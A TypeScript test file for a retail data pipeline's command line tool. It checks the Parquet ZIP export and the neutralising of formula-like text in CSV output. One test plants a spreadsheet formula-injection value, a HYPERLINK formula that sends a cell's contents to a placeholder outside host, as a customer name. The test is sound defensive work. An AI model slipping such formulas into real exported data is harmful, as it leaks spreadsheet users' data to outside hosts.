/** npm run pipeline -- --format parquet --zip: the app's package, written by the command line. */
import { DuckDBInstance } from '@duckdb/node-api';
import { execFile } from 'node:child_process';
import { mkdir, mkdtemp, readdir, readFile, rm, writeFile } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { promisify } from 'node:util';
import { strFromU8, unzipSync } from 'fflate';
import { describe, expect, it } from 'vitest';
import { REPO_ROOT } from '../../src/cli/node-inputs.ts';
import { SOURCES } from '../../src/pipeline/sources.ts';
import { MINIMAL } from '../helpers/pipeline.ts';

const run = promisify(execFile);
const REAL = path.resolve(REPO_ROOT, '../shared/datasets/retail-dw');
const cli = (args: string[]) =>
  run('node', ['--import', 'tsx', 'src/cli/pipeline.ts', ...args], { cwd: REPO_ROOT, timeout: 240_000 });

describe('npm run pipeline -- --format parquet --zip', () => {
  it('writes the package as the app downloads it: one ZIP, Parquet tables typed', async () => {
    const out = await mkdtemp(path.join(os.tmpdir(), 'rw-cli-zip-'));
    const { stdout } = await cli(['--input', REAL, '--out', out, '--run-date', '2026-11-26', '--format', 'parquet', '--zip']);
    expect(stdout).toMatch(/^export_for_powerbi\s+success [\d.]+ s/m);
    expect(stdout).toMatch(/success in [\d.]+ s; powerbi-parquet\.zip in /);
    expect(await readdir(out)).toEqual(['powerbi-parquet.zip']);

    const files = unzipSync(new Uint8Array(await readFile(path.join(out, 'powerbi-parquet.zip'))));
    expect(Object.keys(files)).toEqual(expect.arrayContaining(['README.txt', 'run.json', 'kpis.xlsx', 'fact_sales.parquet', 'kpi_sales_by_year.parquet']));
    const manifest = JSON.parse(strFromU8(files['run.json']));
    expect(manifest).toMatchObject({ state: 'success', format: 'parquet', tables: { 'gold.fact_sales': 60_398 } });

    const parquet = path.join(out, 'fact_sales.parquet');
    await writeFile(parquet, files['fact_sales.parquet']);
    const conn = await (await DuckDBInstance.create(':memory:')).connect();
    const reader = await conn.runAndReadAll(`select typeof(order_date) as d, typeof(quantity) as q, count(*) over () as n from read_parquet('${parquet}') limit 1`);
    expect(reader.getRowObjectsJson()[0]).toEqual({ d: 'DATE', q: 'BIGINT', n: '60398' });
    await rm(out, { recursive: true, force: true });
  }, 300_000);

  it('exits 2 on an unknown format', async () => {
    const err = await cli(['--input', REAL, '--out', os.tmpdir(), '--format', 'xml']).catch((e) => e);
    expect(err.code).toBe(2);
    expect(err.stderr).toMatch(/--format must be csv or parquet/);
  });
});

describe('npm run pipeline -- CSV and formulas', () => {
  const formula = '=HYPERLINK("https://example.com/?"&A2,"x")';

  /** The minimal inputs with a customer whose first name is a spreadsheet formula. */
  async function inputs(): Promise<string> {
    const dir = await mkdtemp(path.join(os.tmpdir(), 'rw-cli-formula-'));
    await mkdir(path.join(dir, 'in'));
    for (const source of SOURCES) {
      const text = source.id === 'crm_cust_info' ? MINIMAL.crm_cust_info.replace(',Jon,', `,"${formula.replaceAll('"', '""')}",`) : MINIMAL[source.id];
      await writeFile(path.join(dir, 'in', path.basename(source.typicalFileName)), text);
    }
    return dir;
  }
  const customers = async (out: string) => (await readFile(path.join(out, 'dim_customers.csv'), 'utf8')).split('\n')[1];

  it('neutralises formula-like text by default, writes it raw with --csv-raw, and says which in README.txt and run.json', async () => {
    const dir = await inputs();
    const safe = path.join(dir, 'safe');
    const raw = path.join(dir, 'raw');
    await cli(['--input', path.join(dir, 'in'), '--out', safe, '--run-date', '2026-11-26']);
    await cli(['--input', path.join(dir, 'in'), '--out', raw, '--run-date', '2026-11-26', '--csv-raw']);
    expect(await customers(safe)).toContain(`"'${formula.replaceAll('"', '""')}"`);
    expect(await customers(raw)).toContain(`,"${formula.replaceAll('"', '""')}"`);
    expect(JSON.parse(await readFile(path.join(safe, 'run.json'), 'utf8')).csvFormulas).toBe('neutralised');
    expect(JSON.parse(await readFile(path.join(raw, 'run.json'), 'utf8')).csvFormulas).toBe('raw');
    expect(await readFile(path.join(safe, 'README.txt'), 'utf8')).toMatch(/Text beginning with = \+ - @, a tab or a carriage return has a ' in front/);
    expect(await readFile(path.join(raw, 'README.txt'), 'utf8')).toMatch(/Raw CSV: text is exactly as stored/);
    await rm(dir, { recursive: true, force: true });
  }, 300_000);
});
